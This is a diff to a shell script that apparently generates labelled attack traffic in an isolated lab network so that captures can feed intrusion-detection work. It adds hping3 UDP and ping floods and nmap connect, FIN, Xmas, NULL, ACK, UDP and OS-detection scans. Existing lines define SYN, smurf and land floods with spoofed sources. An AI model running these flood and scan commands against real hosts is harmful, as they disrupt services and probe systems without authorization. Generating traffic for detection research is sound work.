@@ -122,6 +122,9 @@ normal_ftp() { for i in 1 2 3; do
         -u anonymous,guest@example.test ftp://$S >/dev/null; sleep 1; done; }
 syn_flood() { in_atk hping3 -S --rand-source -p 80 -i u40 -c 20000 $S 2>/dev/null; }
 port_scan() { in_atk nmap -n -Pn -sS -T4 -p 1-1000 $S >/dev/null; }
+nmap_scan() { in_atk nmap -n -Pn -T4 "$@" $S >/dev/null; }  # nmap_scan OPTIONS...
+udp_flood() { in_atk hping3 --udp -p 53 -i u100 -c 5000 $S 2>/dev/null; }
+ping_flood() { in_atk hping3 -1 -i u100 -c 5000 $S 2>/dev/null; }
 icmp_sweep() { in_atk nmap -n -sn -PE --send-ip 10.200.0.10-70 >/dev/null; }
 smurf() { in_atk hping3 -1 -C 0 -K 0 -d 1000 --rand-source -i u400 -c 3000 $S 2>/dev/null; }
 land() { in_atk hping3 -S -a $S -s 23 -k -p 23 -c 5 -i u200000 $S 2>/dev/null; }
@@ -145,3 +148,12 @@ capture teardrop fragments teardrop
 capture pod fragments pod
 capture ftp_guess ftp_guess
 capture telnet_guess telnet_guess
+capture scan_connect nmap_scan -sT -p 1-1000
+capture scan_fin nmap_scan -sF --top-ports 500
+capture scan_xmas nmap_scan -sX --top-ports 500
+capture scan_null nmap_scan -sN --top-ports 500
+capture scan_ack nmap_scan -sA --top-ports 500
+capture scan_udp nmap_scan -sU --top-ports 100
+capture scan_os nmap_scan -O
+capture udp_flood udp_flood
+capture ping_flood ping_flood
